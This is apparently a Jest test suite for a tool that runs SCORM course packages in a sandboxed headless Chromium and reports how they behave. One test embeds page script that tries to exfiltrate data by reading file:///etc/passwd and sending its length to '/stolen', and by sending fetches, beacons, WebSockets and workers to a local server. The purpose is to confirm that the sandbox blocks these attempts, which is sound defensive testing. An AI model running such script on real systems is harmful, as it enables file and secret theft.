import { randomUUID } from 'node:crypto';
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { isFault, readArchive } from '@campus/scorm-format';
import { ZipFile } from 'yazl';
import { PackageTrials } from '@campus/scorm/packages/trial/package-trials.ts';
import { findChromium } from '@campus/scorm/packages/trial/find-chromium.ts';
import { startOf } from '@campus/scorm/packages/trial/browser-start.ts';
import { NoSandbox, openTrialBrowser } from '@campus/scorm/packages/trial/trial-browser.ts';
import { completionFor } from '@campus/scorm/packages/package-report.ts';
import { testConfig } from '../support/test-config.ts';

const chromium = await findChromium(process.env.CHROMIUM_PATH ?? null);

/** Some machines forbid what the sandbox is made of: there the trials are tested without it, and only there. */
const bare: Record<string, string> =
  chromium &&
  !(await openTrialBrowser(chromium, '127.0.0.1:1', false).then(
    async ({ end }) => end().then(() => true),
    (error: unknown) => !(error instanceof NoSandbox),
  ))
    ? { TRIAL_WITHOUT_SANDBOX: '1' }
    : {};

const manifest = (items: string[]) => `<?xml version="1.0"?>
<manifest identifier="TRIAL" version="1" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="ORG"><organization identifier="ORG"><title>To be tried</title>
    ${items.map((id) => `<item identifier="${id}" identifierref="R-${id}"><title>${id}</title></item>`).join('')}
  </organization></organizations>
  <resources>${items.map((id) => `<resource identifier="R-${id}" type="webcontent" adlcp:scormtype="sco" href="${id}.html?of=trial"/>`).join('')}</resources>
</manifest>`;

/** Tries a package whose items are these pages. */
async function tried(pages: Record<string, string>, env: Record<string, string> = {}) {
  const zip = new ZipFile();
  zip.addBuffer(Buffer.from(manifest(Object.keys(pages))), 'imsmanifest.xml');
  for (const [id, html] of Object.entries(pages)) zip.addBuffer(Buffer.from(html), `${id}.html`);
  zip.end();
  const archive = await readArchive(await buffer(zip.outputStream));
  if (isFault(archive)) throw new Error(archive.code);
  try {
    const config = testConfig('none', '/nowhere', {
      TRIAL_SECONDS: '1',
      ...(chromium ? { CHROMIUM_PATH: chromium } : {}),
      ...bare,
      ...env,
    });
    return await new PackageTrials(config).run(archive);
  } finally {
    archive.close();
  }
}

const finder = `let at = window; while (!at.API && at.parent !== at) at = at.parent; const API = at.API;`;

describe('without a browser', () => {
  it('nothing is tried, and the report says so', async () => {
    expect(await tried({ A: '' }, { CHROMIUM_PATH: '/nowhere/chromium' })).toMatchObject({
      trial: { ran: false, whyNot: 'no-browser', items: [] },
    });
    expect((await tried({ A: '' }, { TRIAL_SECONDS: '0' })).trial.whyNot).toBe('switched-off');
  });
});

(chromium ? describe : describe.skip)('a trial', () => {
  let elsewhere: Server;
  const reached: string[] = [];
  beforeAll(async () => {
    elsewhere = createServer((request, response) => {
      reached.push(String(request.url));
      response.setHeader('access-control-allow-origin', '*').end('secret');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => new Promise((resolve) => elsewhere.close(resolve)));

  it('writes down what the first three items say to the API', async () => {
    const saying = `<!doctype html><html lang="es"><head><title>Uno</title></head><body><main><h1>Uno</h1><script>${finder}
      API.LMSInitialize('');
      if (API.LMSGetValue('cmi.core.entry') === 'ab-initio') API.LMSSetValue('cmi.core.lesson_status', 'incomplete');
      API.LMSSetValue('cmi.suspend_data', 'x'.repeat(1200)); API.LMSSetValue('cmi.core.exit', 'suspend'); API.LMSCommit('');
    </script></main></body></html>`;
    const { trial } = await tried({
      ONE: saying,
      TWO: '<title>2</title>',
      THREE: '<title>3</title>',
      FOUR: '<title>4</title>',
    });
    expect(trial).toMatchObject({
      ran: true,
      initialises: true,
      reportsCompletion: true,
      reportsScore: false,
      reportsExit: true,
      suspendDataUsed: 1200,
      hosts: [],
      popUps: 0,
      missingFiles: [],
    });
    expect(trial.items.map(({ identifier }) => identifier)).toEqual(['ONE', 'TWO', 'THREE']);
    // Opened twice, wide and narrow; six calls each time.
    // What one opening takes, the second left out.
    expect(trial.items[0]?.bytes).toBeGreaterThan(50);
    expect(trial.items[0]?.bytes).toBeLessThan(2_000);
    expect(trial.items[0]).toMatchObject({
      opened: true,
      calls: 12,
      sets: ['cmi.core.lesson_status', 'cmi.suspend_data', 'cmi.core.exit'],
      errors: [],
    });
    expect(trial.items[1]).toMatchObject({ opened: true, initialises: false, calls: 0 });
    expect(trial.picture).toMatch(/^data:image\/jpeg;base64,/);
  });

  it('names what stands in a learner’s way: width, missing files, other hosts, pop-ups, errors, barriers', async () => {
    const { trial, accessibility } = await tried({
      A: `<html><body><div style="width:900px">fixed</div><img src="lost/señal.png"><script src="https://cdn.example.org/x.js"></script>
          <script>window.open('other.html'); setTimeout(() => { throw new Error('undefined is not a course') });</script></body></html>`,
    });
    expect(trial.items[0]?.widthAt360).toBeGreaterThanOrEqual(900);
    expect(trial.missingFiles).toEqual(expect.arrayContaining(['lost/señal.png']));
    expect(trial.hosts).toEqual(['cdn.example.org']);
    expect(trial.popUps).toBeGreaterThan(0);
    expect(trial.items[0]?.errors).toEqual([expect.stringContaining('undefined is not a course')]);
    expect(accessibility.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining(['image-alt', 'html-has-lang']),
    );
    expect(accessibility[0]).toMatchObject({ impact: 'critical', items: ['A'] });
  });

  it('lets nothing out: no other port of this machine, no socket, no file', async () => {
    const { port } = elsewhere.address() as AddressInfo;
    const { trial } = await tried({
      A: `<script>
        for (const host of ['127.0.0.1', 'localhost', '[::1]']) {
          fetch('http://' + host + ':${port}/fetched').catch(() => {});
          new Image().src = 'http://' + host + ':${port}/image';
          navigator.sendBeacon('http://' + host + ':${port}/beacon', 'x');
          try { new WebSocket('ws://' + host + ':${port}/socket'); new Worker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.1:${port}/worker')"]))); } catch {}
        }
        fetch('file:///etc/passwd').then((answer) => answer.text()).then((text) => fetch('/stolen?' + text.length)).catch(() => {});
        top.location = 'http://127.0.0.1:${port}/navigated';
      </script>`,
    });
    expect(reached).toEqual([]);
    expect(trial.ran).toBe(true);
    expect(trial.hosts).toContain(`127.0.0.1:${port}`);
    expect(trial.missingFiles.join()).not.toContain('stolen');
  });

  it('has its sandbox, the rights of nobody and none of the secrets of the server', async () => {
    if (!chromium || 'TRIAL_WITHOUT_SANDBOX' in bare) return;
    const host = `${randomUUID()}.test:1`;
    const before = process.env.CAMPUS_SECRET;
    process.env.CAMPUS_SECRET = `secret of ${host}`;
    const { end } = await openTrialBrowser(chromium, host, false);
    try {
      const processes = readdirSync('/proc').flatMap((id) => {
        const read = (file: string) => readFileSync(join('/proc', id, file), 'utf8');
        try {
          return /^\d+$/.test(id) && read('cmdline').includes(host) && id !== String(process.pid)
            ? [{ command: read('cmdline'), env: read('environ'), uid: statSync(join('/proc', id)).uid }]
            : [];
        } catch {
          return [];
        }
      });
      expect(processes.length).toBeGreaterThan(0);
      for (const { command, env, uid } of processes) {
        expect(command).not.toContain('--no-sandbox');
        expect(env).not.toContain('secret of');
        expect(uid).not.toBe(0);
      }
    } finally {
      await end();
      if (before === undefined) delete process.env.CAMPUS_SECRET;
      else process.env.CAMPUS_SECRET = before;
    }
  });

  it('ends though content never lets go', async () => {
    const { trial } = await tried({ A: '<script>while (true);</script>' });
    expect(trial).toMatchObject({ ran: true, items: [{ opened: false }] });
  });
});

describe('where the browser cannot be shut in', () => {
  it('a server that is root does not open it', async () => {
    expect(await startOf('/usr/bin/chromium', false, { isRoot: true, setpriv: '/nowhere' })).toBeNull();
    const asUser = await startOf('/usr/bin/chromium', false, { isRoot: false, setpriv: '/nowhere' });
    expect(asUser).toMatchObject({ executablePath: '/usr/bin/chromium', isSandboxed: true });
    expect(Object.keys(asUser?.env ?? {})).toEqual(['PATH', 'LANG']);
  });

  it('the report says so', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'campus-browsers-'));
    const path = join(folder, 'chromium');
    writeFileSync(path, '#!/bin/sh\necho "FATAL: No usable sandbox!" >&2\nexit 1\n', { mode: 0o755 });
    chmodSync(folder, 0o755);
    try {
      const env = { CHROMIUM_PATH: path, TRIAL_WITHOUT_SANDBOX: '0' };
      expect((await tried({ A: '' }, env)).trial).toMatchObject({ ran: false, whyNot: 'no-sandbox' });
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});

describe('what should complete an item', () => {
  const seen = (changes: object) => ({
    trial: { initialises: false, reportsCompletion: false, reportsScore: false, ...changes },
  });
  it.each([
    [{ reportsCompletion: true, initialises: true }, true, 'reported', 'REPORTS_COMPLETION'],
    [{ initialises: true, reportsScore: true }, true, 'passed', 'REPORTS_SCORE_ONLY'],
    [{ initialises: true }, true, 'reported', 'CALLS_API'],
    [{}, true, 'reported', 'CALLS_API'],
    [{}, false, 'opened', 'NO_API'],
  ] as const)(
    'seen %j, API in its files %p: %s, %s',
    (trial, callsApi, suggestedCompletion, suggestedBecause) => {
      expect(completionFor(seen(trial), { callsApi })).toEqual({ suggestedCompletion, suggestedBecause });
    },
  );
});

it('the browser is the one that is named and no other, else the shell before the whole browser', async () => {
  expect(await findChromium('/nowhere/chromium')).toBeNull();
  const folder = mkdtempSync(join(tmpdir(), 'campus-browsers-'));
  try {
    for (const name of ['chromium', 'chromium-headless-shell'])
      writeFileSync(join(folder, name), '', { mode: 0o755 });
    expect(await findChromium(null, folder)).toBe(join(folder, 'chromium-headless-shell'));
  } finally {
    rmSync(folder, { recursive: true });
  }
});
